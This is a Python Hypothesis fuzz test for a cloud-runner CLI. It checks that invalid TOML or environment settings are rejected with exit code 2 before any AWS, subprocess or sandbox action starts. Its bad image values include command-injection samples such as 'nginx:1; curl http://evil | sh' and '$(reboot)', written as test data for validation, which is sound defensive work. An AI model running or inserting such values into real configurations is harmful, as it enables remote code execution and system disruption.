"""Bad input is refused before anything starts: a fuzz test through the CLI.

Hypothesis writes invalid `runnerfleet.toml` files and `RUNNERFLEET_*` values (one bad field
each, in a file or in the environment) and runs `runnerfleet up` / `down` / `plan` on them.
Every run must exit 2, name the field, print no traceback, and touch nothing: the target
resolution, the sandbox start, boto3 and subprocess are patched to record and refuse any use.
"""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any, Literal

import boto3
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from runnerfleet import catalogue, config
from runnerfleet.cli import app

TOUCHED: list[str] = []


def _refuse(what: str) -> Any:
    def refuse(*_a: Any, **_k: Any) -> Any:
        TOUCHED.append(what)
        raise AssertionError(f"{what} was used for a config that does not validate")

    return refuse


@pytest.fixture(scope="module")
def guarded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """Clean RUNNERFLEET_* environment; every way to start something records and raises."""
    mp = pytest.MonkeyPatch()
    for key in list(os.environ):
        if key.startswith("RUNNERFLEET_"):
            mp.delenv(key)
    import subprocess

    import runnerfleet.commands.common as common
    import runnerfleet.sandbox as sandbox

    mp.setattr(sandbox.Sandbox, "start", _refuse("sandbox start"))
    mp.setattr(common, "resolve_target", _refuse("target resolution"))
    mp.setattr(boto3.Session, "__init__", _refuse("boto3 session"))
    mp.setattr(boto3, "client", _refuse("boto3 client"))
    mp.setattr(subprocess.Popen, "__init__", _refuse("subprocess"))
    folder = tmp_path_factory.mktemp("fuzz")
    mp.chdir(folder)
    yield folder
    mp.undo()


# ---- invalid values per field ------------------------------------------------------------
SURROGATES: tuple[Literal["Cs"]] = ("Cs",)  # lone surrogates: not encodable as UTF-8
text = st.text(
    alphabet=st.characters(blacklist_categories=SURROGATES, blacklist_characters="\x00"),
    max_size=40,
)
not_a_string: st.SearchStrategy[object] = st.one_of(
    st.integers(), st.booleans(), st.floats(allow_nan=False), st.just([])
)
not_an_int = st.one_of(st.booleans(), st.floats(allow_nan=False), text, st.just([1]))
shell = st.sampled_from(list(";|&$`<>(){}\\\"' \n\t*?!#"))
NAME_RE = config.NAME_RE


def bad_ints(lo: int, hi: int) -> st.SearchStrategy[Any]:
    return st.one_of(st.integers(max_value=lo - 1), st.integers(min_value=hi + 1), not_an_int)


RETENTIONS = {1, 3, 5, 7, 14, 30, 60, 90, 120, 150, 180, 365, 400, 545, 731, 1096, 1827,
              2192, 2557, 2922, 3288, 3653}  # fmt: skip

INVALID: dict[str, st.SearchStrategy[Any]] = {
    "name": st.one_of(
        text.filter(lambda s: not NAME_RE.fullmatch(s)),
        st.sampled_from(["abc\n", "Fleet", "ab", "a" * 40]),
        not_a_string,
    ),
    "aws.region": st.one_of(
        text.filter(lambda s: s not in catalogue.regions()),
        st.sampled_from(["us-east-9", "eu-west-0", "us-east-1\n"]),
        not_a_string,
    ),
    "runners.instance_type": st.one_of(
        text.filter(lambda s: s not in catalogue.instance_types()),
        st.sampled_from(["t3.huge", "m5.tiny", "t3.medium "]),
        not_a_string,
    ),
    "runners.app_image": st.one_of(
        st.builds(lambda a, s, b: f"nginx{a}{s}{b}", text, shell, text),
        st.sampled_from(["nginx:1; curl http://evil | sh", "$(reboot)", "img\n", "Upper:tag"]),
        not_a_string,
    ),
    "runners.count": bad_ints(0, 100),
    "runners.volume_size": bad_ints(8, 16384),
    "runners.ephemeral": st.one_of(st.integers(), text, st.sampled_from(["true", "yes", 1])),
    "monitoring.log_retention_days": st.one_of(
        st.booleans(), st.integers().filter(lambda n: n not in RETENTIONS), text
    ),
    "control_plane.boot_timeout_seconds": bad_ints(60, 3600),
    "network.vpc_cidr": st.one_of(
        text, st.sampled_from(["10.0.0.0/40", "10.0.0.1/16", "10.0.0.0/16\n"]), not_a_string
    ),
    "runners.labels": st.one_of(
        st.lists(st.builds(lambda a, s: f"x{s}{a}", text, shell), min_size=1, max_size=3),
        text,
        st.integers(),
    ),
    "github.owner": st.one_of(
        text.filter(lambda s: not __import__("re").fullmatch(r"[A-Za-z0-9][A-Za-z0-9-]{0,38}", s)),
        not_a_string,
    ),
    "backend.bucket": st.one_of(
        st.sampled_from(["UPPER", "a", "x..y", "192.168.1.1", "ok-name\n"]), not_a_string
    ),
}
FIELDS = sorted(INVALID)


def toml_value(value: Any) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int):
        return str(value)
    if isinstance(value, float):
        return repr(value)
    if isinstance(value, str):
        return json.dumps(value, ensure_ascii=False).replace("\x7f", "\\u007f")
    if isinstance(value, list):
        return "[" + ", ".join(toml_value(v) for v in value) + "]"
    raise TypeError(value)


def toml_file(field: str, value: Any) -> str:
    *tables, key = field.split(".")
    line = f"{key} = {toml_value(value)}\n"
    return (f"[{'.'.join(tables)}]\n" if tables else "") + line


def env_value(value: Any) -> str:
    """The variable's text: a string as itself when the CLI reads it back as that string."""
    if isinstance(value, str):
        try:
            json.loads(value)
        except json.JSONDecodeError:
            return value
        except ValueError:
            pass
    return json.dumps(value)


def run_cli(argv: list[str], env: dict[str, str]) -> Any:
    TOUCHED.clear()
    return CliRunner().invoke(app, argv, env=env, catch_exceptions=True)


def assert_refused(result: Any, field: str) -> None:
    out = result.output
    assert "Traceback" not in out, out
    assert result.exit_code == 2, (result.exit_code, out, result.exception)
    assert isinstance(result.exception, SystemExit), result.exception
    assert field in out, f"{field!r} not named in:\n{out}"
    assert not TOUCHED, f"{TOUCHED} used for an invalid config"


@settings(
    max_examples=260,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.filter_too_much],
)
@given(
    field=st.sampled_from(FIELDS),
    data=st.data(),
    where=st.sampled_from(["file", "env"]),
    command=st.sampled_from([["up", "--sandbox", "--yes"], ["down", "--yes"], ["plan"]]),
)
def test_invalid_settings_are_refused_before_anything_starts(
    guarded: Path, field: str, data: st.DataObject, where: str, command: list[str]
) -> None:
    value = data.draw(INVALID[field], label=field)
    cfg_file = guarded / "runnerfleet.toml"
    env: dict[str, str] = {}
    if where == "file":
        cfg_file.write_text(toml_file(field, value), encoding="utf-8")
    else:
        cfg_file.write_text("", encoding="utf-8")
        var = "RUNNERFLEET_" + field.upper().replace(".", "__")
        raw = env_value(value)
        if "\x00" in raw:
            return
        env[var] = raw
    result = run_cli([*command, "--config", str(cfg_file)], env)
    assert_refused(result, field)


UNKNOWN_KEY = st.from_regex(r"[a-z][a-z0-9_]{0,12}", fullmatch=True).filter(
    lambda k: k not in config.FleetConfig.model_fields
)


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(key=UNKNOWN_KEY, section=st.sampled_from(["", "runners", "aws", "network"]))
def test_unknown_settings_are_named(guarded: Path, key: str, section: str) -> None:
    cfg_file = guarded / "runnerfleet.toml"
    head = f"[{section}]\n" if section else ""
    model = config.FleetConfig.model_fields[section].annotation if section else None
    if model is not None and key in getattr(model, "model_fields", {}):
        return
    cfg_file.write_text(f"{head}{key} = 1\n", encoding="utf-8")
    result = run_cli(["up", "--sandbox", "--config", str(cfg_file)], {})
    assert_refused(result, f"{section}.{key}" if section else key)


# ---- the inputs that crashed with a traceback before -------------------------------------
CRASHERS: list[tuple[str, str | None, dict[str, str], str]] = [
    # (id, file text or None for "no file written", environment, field named)
    ("deep-array", "a = " + "[" * 3000 + "]" * 3000 + "\n", {}, "a (line 1)"),
    (
        "deep-table",
        "[network]\nvpc_cidr = " + "{a=" * 2000 + "1" + "}" * 2000 + "\n",
        {},
        "network.vpc_cidr",
    ),
    ("5000-digits", "[runners]\ncount = " + "9" * 5000 + "\n", {}, "runners.count"),
    ("env-5000-digits", "", {"RUNNERFLEET_RUNNERS__COUNT": "9" * 5000}, "RUNNERFLEET_RUNNERS"),
    ("env-deep-json", "", {"RUNNERFLEET_TAGS": "[" * 5000 + "]" * 5000}, "RUNNERFLEET_TAGS"),
    ("env-empty-name", "", {"RUNNERFLEET_": "x"}, "RUNNERFLEET_"),
    ("env-bad-name", "", {"RUNNERFLEET_AWS___REGION": "x"}, "RUNNERFLEET_AWS___REGION"),
    (
        "env-value-and-table",
        "",
        {"RUNNERFLEET_AWS": "plain", "RUNNERFLEET_AWS__REGION": "eu-west-1"},
        "RUNNERFLEET_AWS__REGION",
    ),
    ("env-plain-table", "", {"RUNNERFLEET_AWS": "plain"}, "RUNNERFLEET_AWS"),
    ("bool-is-no-number", "[monitoring]\nlog_retention_days = true\n", {}, "log_retention_days"),
    ("trailing-newline", 'name = "abc\\n"\n', {}, "name"),
    ("huge-type", '[runners]\ninstance_type = "t3.huge"\n', {}, "did you mean 't3.large'"),
    (
        "unknown-region",
        '[aws]\nregion = "us-east-9"\n[network]\navailability_zones = ["us-east-9a"]\n',
        {},
        "aws.region",
    ),
    ("not-utf8", None, {}, "not UTF-8"),
]


@pytest.mark.parametrize(
    ("text", "env", "named"), [c[1:] for c in CRASHERS], ids=[c[0] for c in CRASHERS]
)
def test_inputs_that_crashed_before_exit_2(
    guarded: Path, text: str | None, env: dict[str, str], named: str
) -> None:
    cfg_file = guarded / "runnerfleet.toml"
    if text is None:
        cfg_file.write_bytes(b'name = "\xff\xfe"\n')
    else:
        cfg_file.write_text(text, encoding="utf-8")
    result = run_cli(["up", "--sandbox", "--config", str(cfg_file)], env)
    assert_refused(result, named)


def test_a_named_config_that_does_not_exist_is_an_error(guarded: Path) -> None:
    result = run_cli(["up", "--sandbox", "--config", "typo.toml"], {})
    assert_refused(result, "typo.toml")
    assert "does not exist" in result.output
    result = run_cli(["up", "--sandbox"], {"RUNNERFLEET_CONFIG": str(guarded / "typo.toml")})
    assert_refused(result, "typo.toml")


def test_a_folder_as_config_is_an_error(guarded: Path) -> None:
    folder = guarded / "cfgdir"
    folder.mkdir(exist_ok=True)
    result = run_cli(["up", "--sandbox", "--config", str(folder)], {})
    assert_refused(result, "is a folder")
